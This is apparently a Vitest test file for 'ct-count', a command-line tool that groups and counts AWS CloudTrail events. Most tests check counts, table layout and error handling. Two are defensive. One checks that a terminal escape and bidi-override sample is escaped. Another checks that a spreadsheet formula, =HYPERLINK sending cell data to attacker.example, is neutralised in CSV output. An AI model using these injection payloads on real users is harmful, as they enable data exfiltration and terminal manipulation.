// ct-count: groups and counts, checked against jq over the same events, on both shapes.
import { describe, expect, test } from 'vitest';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { absent, lines, needs, SAMPLE, sh, tempDir } from '../helpers';

describe('ct-count', () => {
  test.skipIf(absent('jq'))(`counts, first and last seen per group as jq's group_by does ${needs('jq')}`, async () => {
    const ours = await sh(`ct-count errorCode,awsRegion --json '${SAMPLE}'`);
    const jq = await sh(
      `zcat '${SAMPLE}' | jq -sc 'map({e: (.CloudTrailEvent | fromjson | .errorCode), r: (.CloudTrailEvent | fromjson | .awsRegion), t: .EventTime}) | group_by([.e, .r]) | map({errorCode: .[0].e, awsRegion: .[0].r, count: length, firstSeen: (map(.t) | min), lastSeen: (map(.t) | max)}) | sort_by(-.count, .firstSeen) | .[]'`,
    );
    expect(lines(ours.stdout).length).toBeGreaterThan(10);
    expect(lines(ours.stdout).map((l) => JSON.parse(l))).toEqual(lines(jq.stdout).map((l) => JSON.parse(l)));
    expect(ours.code).toBe(0);
  });

  test.skipIf(absent('jq'))(`--distinct counts the distinct values of another field per group; --top keeps the largest ${needs('jq')}`, async () => {
    const ours = await sh(`ct-count user --distinct sourceIPAddress --top 5 --json '${SAMPLE}'`);
    const jq = await sh(`ct-explode '${SAMPLE}' | ct-csv --no-header -f user,sourceIPAddress | sort -u | cut -d, -f1 | sort | uniq -c | sort -k2`);
    const distinctByUser = new Map(lines(jq.stdout).map((l) => { const [n, u] = l.trim().split(/\s+/); return [u, Number(n)]; }));
    const rows = lines(ours.stdout).map((l) => JSON.parse(l));
    expect(rows).toHaveLength(5);
    for (const r of rows) expect(r.distinct, r.user).toBe(distinctByUser.get(r.user));
    expect(rows.map((r) => r.count)).toEqual([...rows.map((r) => r.count)].sort((a, b) => b - a));
  });

  test('the same answer on LookupEvents items and on their records', async () => {
    const onItems = await sh(`ct-count user,eventSource,eventName --csv '${SAMPLE}'`);
    const onRecords = await sh(`ct-explode '${SAMPLE}' | ct-count user,eventSource,eventName --csv`);
    expect(lines(onItems.stdout).length).toBeGreaterThan(50);
    expect(onRecords.stdout).toBe(onItems.stdout);
  });

  test('an aligned table by default: columns line up, also after wide (CJK) names', async () => {
    const r = await sh(`ct-count user,eventName --top 40 '${SAMPLE}'`);
    const rows = lines(r.stdout);
    expect(rows[0]).toMatch(/^count {2}first seen {12}last seen {13}user +eventName$/);
    // The display column where eventName starts is the same on every row (a CJK character is two wide).
    const shown = (s: string) => [...s].reduce((n, ch) => n + (/[\u3000-\u9fff\uff00-\uffef]/.test(ch) ? 2 : 1), 0);
    const starts = rows.slice(1).map((row) => shown(row.slice(0, row.lastIndexOf(' ') + 1)));
    expect(new Set(starts).size).toBe(1);
    expect(rows.some((row) => row.includes('田中太郎'))).toBe(true);
  });

  test('the table cannot drive a terminal: control characters (C1 too) and bidi overrides are shown as escapes, as ct-show shows them', async () => {
    const input = JSON.stringify({ eventTime: '2024-07-22T00:00:00Z', eventName: 'Evil\u001b]0;pwned\u0007\u009b31m\u202eName' });
    const r = await sh('ct-count eventName', { input });
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(lines(r.stdout)[1]).toMatch(/Evil\\x1b\]0;pwned\\x07\\x9b31m\\u\{202e\}Name$/);
  });

  test('--csv escapes what a spreadsheet would run as a formula, as ct-csv does', async () => {
    const r = await sh(`ct-count userAgent --csv '${SAMPLE}'`);
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://attacker.example/x?d=""&A1,""Click for details"")"`);
    expect(r.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  test('a bad line is reported with its place and the rest still counted, exit 1; a closed reader is a quiet end', async () => {
    const input = ['{"eventName":"A","eventTime":"2024-07-22T00:00:00Z"}', '{"eventName":"A",', '{"eventName":"B","eventTime":"2024-07-22T01:00:00Z"}', '{"eventName":"A","eventTime":"2024-07-22T02:00:00Z"}'].join('\n');
    const r = await sh('ct-count eventName --tsv', { input });
    expect(lines(r.stdout)).toEqual(['count\tfirst seen\tlast seen\teventName', '2\t2024-07-22T00:00:00Z\t2024-07-22T02:00:00Z\tA', '1\t2024-07-22T01:00:00Z\t2024-07-22T01:00:00Z\tB']);
    expect(r.stderr).toMatch(/^ct-count: stdin:2: .*JSON/);
    expect(r.code).toBe(1);
    const head = await sh(`ct-count eventID '${SAMPLE}' | head -1`);
    expect(lines(head.stdout)[0]).toMatch(/^count/);
    expect(head.stderr).toBe('');
  });

  test("read from the bytes where it can, with the parser's answers: an item's Username when its record names no one, half a surrogate reported", async () => {
    const record = (name: string, extra = '') => JSON.stringify(`{"eventTime":"2024-07-22T00:00:00Z","eventName":"${name}"${extra}}`);
    const input = [
      `{"EventId":"1","Username":"bob","CloudTrailEvent":${record('A')}}`,
      `{"EventId":"2","Username":"bob","CloudTrailEvent":${record('A', ',"userIdentity":{"type":"IAMUser","userName":"alice"}')}}`,
      '{"eventTime":"2024-07-22T01:00:00Z","eventName":"B","userIdentity":{"type":"Root"}}',
      '{"eventTime":"2024-07-22T02:00:00Z","eventName":"\\ud800","userIdentity":{"type":"Root"},"other":"\\udfff"}',
    ].join('\n');
    const r = await sh('ct-count user,eventName --tsv', { input });
    expect(lines(r.stdout)).toEqual([
      'count\tfirst seen\tlast seen\tuser\teventName',
      '1\t2024-07-22T00:00:00Z\t2024-07-22T00:00:00Z\talice\tA',
      '1\t2024-07-22T00:00:00Z\t2024-07-22T00:00:00Z\tbob\tA',
      '1\t2024-07-22T01:00:00Z\t2024-07-22T01:00:00Z\troot\tB',
      '1\t2024-07-22T02:00:00Z\t2024-07-22T02:00:00Z\troot\t\ufffd',
    ]);
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr).toMatch(/^ct-count: stdin:4: .*half a surrogate pair/);
  });

  test('past --max-groups it stops and says so, exit 1, rather than run out of memory', async () => {
    const r = await sh(`ct-count eventID --max-groups 100 '${SAMPLE}'`);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('ct-count: more than 100 groups and distinct values (--max-groups): count by fewer or coarser fields, or raise the limit\n');
    expect(r.code).toBe(1);
  });

  test.each([
    ['ct-count', 'ct-count: no FIELDS given, e.g. ct-count errorCode events.ndjson'],
    [`ct-count errorCode --top 0 '${SAMPLE}'`, 'ct-count: --top: a whole number from 1, not 0'],
    [`ct-count errorCode --csv --json '${SAMPLE}'`, 'ct-count: --csv, --tsv and --json: choose one'],
    [`ct-count 'errorCode,a..b' '${SAMPLE}'`, "ct-count: FIELDS: bad field path 'a..b'"],
  ])('%s: one line, exit 2', async (command, message) => {
    const r = await sh(`${command} < /dev/null`);
    expect(lines(r.stderr)[0]).toContain(message);
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.code).toBe(2);
  });
});

describe('ct-count with many groups', () => {
  test('200,000 groups in an aligned table: no stack overflow from widest-cell arithmetic', async () => {
    const dir = tempDir();
    const body = Array.from({ length: 200_000 }, (_, i) => `{"eventID":"e${i}","eventTime":"2024-07-22T00:00:00Z"}`).join('\n');
    writeFileSync(path.join(dir, 'many.ndjson'), `${body}\n`);
    const r = await sh(`ct-count eventID many.ndjson | wc -l`, { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe('200001');
  }, 120_000);
});
